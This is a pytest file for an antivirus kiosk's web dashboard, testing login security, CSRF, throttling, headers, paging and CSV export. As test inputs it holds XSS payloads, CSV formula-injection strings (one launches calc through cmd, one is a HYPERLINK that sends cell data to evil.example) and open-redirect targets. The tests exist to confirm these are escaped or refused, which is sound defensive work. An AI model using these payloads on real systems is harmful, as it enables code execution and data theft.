"""The web pages without a browser: login, CSRF, throttling, headers, filters, pages, CSV."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest

from kiosk.models import FileVerdict, Finding, TreeVerdict, utcnow
from kiosk.server.export import neutralise
from kiosk.server.middleware import CSP
from tests.server.conftest import PASSWORD, Server, csrf_of
from tests.server.support import XSS_NAMES, body, make_report

PAGES = ("/", "/scans", "/stations", "/threats", "/stations/st1")


async def post(server: Server, token: str, *reports: object) -> None:
    for report in reports:
        answer = await server.client.post(
            "/api/v1/reports",
            content=body(report),  # type: ignore[arg-type]
            headers={"Authorization": f"Bearer {token}"},
        )
        assert answer.status_code == 201, answer.text


async def test_pages_need_a_login(server: Server) -> None:
    for path in (*PAGES, "/scans.csv", "/scans.json", "/findings.csv", "/scans/x"):
        answer = await server.client.get(path)
        assert answer.status_code == 303, path
        assert answer.headers["location"].startswith("/login?next=")


async def test_login_sets_a_hardened_session_cookie_and_logout_needs_csrf(server: Server) -> None:
    server.add_user()
    answer = await server.login()
    assert answer.status_code == 303
    cookie = answer.headers["set-cookie"]
    assert "sb_session=" in cookie and "HttpOnly" in cookie and "SameSite=strict" in cookie
    page = await server.client.get("/")
    assert page.status_code == 200
    assert "Claire Lemoine" in page.text
    refused = await server.client.post("/logout", data={"csrf": "forged"})
    assert refused.status_code == 403
    assert (await server.client.get("/")).status_code == 200  # still logged in
    out = await server.client.post("/logout", data={"csrf": csrf_of(page.text)})
    assert out.status_code == 303
    assert (await server.client.get("/")).status_code == 303


async def test_secure_flag_is_on_by_default(sqlite_url: str) -> None:
    import httpx

    from kiosk.config import Config
    from kiosk.server.app import create_app

    app = create_app(Config().with_overrides("server", database_url=sqlite_url), background=False)
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="https://testserver") as client:
        page = await client.get("/login")
    assert "Secure" in page.headers["set-cookie"]


async def test_login_without_the_csrf_token_is_refused(server: Server) -> None:
    server.add_user()
    await server.client.get("/login")
    answer = await server.client.post(
        "/login", data={"username": "claire", "password": PASSWORD, "csrf": "nope"}
    )
    assert answer.status_code == 403
    server.client.cookies.clear()
    answer = await server.client.post(
        "/login", data={"username": "claire", "password": PASSWORD, "csrf": "nope"}
    )
    assert answer.status_code == 403


async def test_login_brute_force_is_throttled_even_with_the_right_password(server: Server) -> None:
    server.add_user()
    for _ in range(5):
        wrong = await server.login(password="guess")
        assert wrong.status_code == 401
        assert "sb_session" not in wrong.headers.get("set-cookie", "")
    blocked = await server.login()
    assert blocked.status_code == 429
    assert "retry-after" in blocked.headers
    assert (await server.client.get("/")).status_code == 303


async def test_every_page_sends_a_strict_csp_and_holds_no_inline_script(server: Server) -> None:
    server.add_user()
    token = server.add_station("st1")
    report = make_report("st1", verdict=TreeVerdict.INFECTED)
    await post(server, token, report)
    await server.login()
    for path in (*PAGES, f"/scans/{report.report_id}", "/nope", "/login"):
        answer = await server.client.get(path)
        assert answer.headers["content-security-policy"] == CSP, path
        assert "script-src" not in CSP and "unsafe-inline" not in CSP
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["x-frame-options"] == "DENY"
        assert "<script" not in answer.text.lower(), path
        assert " on" not in re.sub(r"<[^>]*>", "", answer.text)[:0]  # text only, see XSS test


async def test_names_from_reports_are_escaped_everywhere(server: Server) -> None:
    server.add_user()
    token = server.add_station("st1", name=XSS_NAMES[1], school=XSS_NAMES[0])
    findings = tuple(
        Finding(path=f"dir/{name}", verdict=FileVerdict.INFECTED, threat=name) for name in XSS_NAMES
    )
    report = make_report(
        "st1", verdict=TreeVerdict.INFECTED, findings=findings, serial=XSS_NAMES[1]
    )
    await post(server, token, report)
    await server.login()
    for path in (*PAGES, f"/scans/{report.report_id}"):
        html = (await server.client.get(path)).text
        assert "<script>alert" not in html, path
        assert "<svg onload" not in html, path
    detail = (await server.client.get(f"/scans/{report.report_id}")).text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;.pdf" in detail
    assert "&#34;&gt;&lt;svg onload=alert(1)&gt;" in detail


async def test_filters_and_keyset_pages_visit_every_scan_once(server: Server) -> None:
    server.add_user()
    a = server.add_station("a", school="École A")
    b = server.add_station("b", school="École B")
    now = utcnow()
    reports = [
        make_report(
            "a" if i % 3 else "b",
            verdict=TreeVerdict.INFECTED if i % 5 == 0 else TreeVerdict.CLEAN,
            finished_at=now - timedelta(hours=i),
            serial=f"SER{i % 4}",
        )
        for i in range(45)
    ]
    await post(server, a, *[r for r in reports if r.station_id == "a"])
    await post(server, b, *[r for r in reports if r.station_id == "b"])
    await server.login()

    async def walk(query: str) -> list[str]:
        seen: list[str] = []
        url: str | None = f"/scans?{query}"
        while url:
            html = (await server.client.get(url)).text
            seen += re.findall(r'class="code" href="/scans/([0-9a-f-]{36})"', html)
            nxt = re.search(r'rel="next" href="([^"]+)"', html)
            url = nxt.group(1).replace("&amp;", "&") if nxt else None
        return seen

    everything = await walk("size=20")
    assert everything == [r.report_id for r in reports]  # newest first, each once
    infected = await walk("verdict=infected")
    assert infected == [r.report_id for r in reports if r.verdict is TreeVerdict.INFECTED]
    school = await walk("where=school:%C3%89cole+B")
    assert school == [r.report_id for r in reports if r.station_id == "b"]
    serial = await walk("serial=SER1&station=a")
    assert serial == [
        r.report_id for r in reports if r.station_id == "a" and r.device.serial == "SER1"
    ]  # type: ignore[union-attr]
    code = await walk(f"code={reports[7].scan_code.lower().replace('-', '')}")
    assert code == [reports[7].report_id]
    threat = await walk("threat=Win.Trojan.Agent-1234")
    assert threat == infected
    day = (now - timedelta(hours=30)).astimezone(server.app.state.server.tz).date()
    dated = await walk(f"from={day}&to={day}")
    tz = server.app.state.server.tz
    assert dated == [r.report_id for r in reports if r.finished_at.astimezone(tz).date() == day]
    assert dated
    data = (await server.client.get("/scans.json?verdict=infected&size=20")).json()
    assert [row["report_id"] for row in data["rows"]] == infected
    assert data["filters"] == {"verdict": "infected"} and data["next"] is None
    # Going back: the "newer" link of page 2 gives page 1 again.
    html = (await server.client.get("/scans?size=20")).text
    nxt = re.search(r'rel="next" href="([^"]+)"', html)
    assert nxt
    page2 = (await server.client.get(nxt.group(1).replace("&amp;", "&"))).text
    prev = re.search(r'rel="prev" href="([^"]+)"', page2)
    assert prev
    page1 = (await server.client.get(prev.group(1).replace("&amp;", "&"))).text
    assert re.findall(r'class="code" href="/scans/([0-9a-f-]{36})"', page1) == everything[:20]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralise_every_formula_prefix(prefix: str) -> None:
    assert neutralise(f'{prefix}HYPERLINK("http://x")') == f'\'{prefix}HYPERLINK("http://x")'
    assert neutralise("plain.pdf") == "plain.pdf"
    assert neutralise(-3) == -3  # numbers stay numbers


async def test_csv_export_neutralises_formulas_and_follows_the_filters(server: Server) -> None:
    server.add_user()
    token = server.add_station("st1", name="=cmd|' /C calc'!A0")
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    findings = (Finding(path=evil, verdict=FileVerdict.INFECTED, threat="@SUM(1+1)"),)
    bad = make_report("st1", verdict=TreeVerdict.INFECTED, findings=findings, serial="+33 1 23")
    good = make_report("st1")
    await post(server, token, bad, good)
    await server.login()
    scans = (await server.client.get("/scans.csv?verdict=infected")).text
    rows = list(csv.reader(io.StringIO(scans.lstrip("\ufeff"))))
    assert len(rows) == 2  # header + the one infected scan
    cells = rows[1]
    assert "'=cmd|' /C calc'!A0" in cells
    assert "'@SUM(1+1)" in cells
    assert "'+33 1 23" in cells
    files = (await server.client.get(f"/findings.csv?code={bad.scan_code}")).text
    rows = list(csv.reader(io.StringIO(files.lstrip("\ufeff"))))
    assert len(rows) == 2
    assert "'" + evil in rows[1]
    for row in rows[1:]:
        assert not any(str(c).startswith(("=", "+", "-", "@", "\t", "\r")) for c in row)
    assert (await server.client.get("/threats.csv?by=threat&days=0")).text.count("'@SUM") == 1
    assert "text/csv" in (await server.client.get("/stations.csv")).headers["content-type"]


async def test_pages_show_what_came_in(server: Server) -> None:
    server.add_user()
    token = server.add_station("st1", name="École Jean Moulin")
    report = make_report("st1", verdict=TreeVerdict.INFECTED)
    await post(server, token, report)
    beat = {"station_id": "st1", "sent_at": utcnow().isoformat(), "backlog": 2,
            "health": {"engine_ok": False, "measured_at": utcnow().isoformat()}}  # fmt: skip
    await server.client.post(
        "/api/v1/heartbeats", json=beat, headers={"Authorization": f"Bearer {token}"}
    )
    await server.login()
    dashboard = (await server.client.get("/")).text
    assert "Win.Trojan.Agent-1234" in dashboard and "Tableau de bord" in dashboard
    stations = (await server.client.get("/stations")).text
    assert "Ne protège pas" in stations and "Moteur arrêté" in stations
    threats = (await server.client.get("/threats")).text
    assert "Win.Trojan.Agent-1234" in threats
    detail = (await server.client.get(f"/scans/{report.report_id}")).text
    assert report.scan_code in detail and "minecraft_gratuit.exe" in detail
    english = await server.client.get("/lang/en?next=/stations")
    assert english.headers["location"] == "/stations"
    assert "Not protecting" in (await server.client.get("/stations")).text
    for evil in ("//evil.example", "/\t/evil.example", "https://evil.example",
                 "/\\evil.example", "/\n/evil.example"):  # fmt: skip
        answer = await server.client.get("/lang/en", params={"next": evil})
        assert answer.headers["location"] == "/", evil
    ok = await server.client.get("/lang/fr", params={"next": "/scans?verdict=infected&size=50"})
    assert ok.headers["location"] == "/scans?verdict=infected&size=50"


async def test_errors_never_leak_internals(sqlite_url: str) -> None:
    import httpx
    from sqlalchemy import text

    from kiosk.server.app import create_app
    from tests.server.conftest import make_config

    app = create_app(make_config(sqlite_url), background=False)
    db = app.state.server.db
    transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="http://t") as client:
        srv = Server(app, db, client, make_config(sqlite_url))
        srv.add_user()
        token = srv.add_station("st1")
        await srv.login()
        with db.write() as session:
            session.execute(text("DROP TABLE findings"))
        report = make_report("st1", verdict=TreeVerdict.INFECTED)
        api = await client.post(
            "/api/v1/reports", content=body(report), headers={"Authorization": f"Bearer {token}"}
        )
        page = await client.get("/threats")
    assert api.status_code == 500 and api.json() == {
        "error": "internal",
        "message": "internal error, try again later",
    }
    assert page.status_code == 500
    assert page.headers["content-security-policy"] == CSP
    for text_ in (api.text, page.text):
        assert "findings" not in text_.lower() and "Traceback" not in text_
        assert "sqlite" not in text_.lower()
